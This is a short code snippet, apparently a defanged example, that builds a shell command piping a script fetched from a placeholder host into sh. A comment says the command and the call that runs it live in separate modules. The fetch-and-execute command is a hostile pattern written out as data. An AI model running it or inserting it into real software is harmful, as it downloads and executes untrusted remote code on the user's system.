# Defanged: the command lives in one module, the call that runs it in another.
HOST = 'http://198.51.100.23:8080'
BOOT = 'curl -s ' + HOST + '/agent.sh | sh'
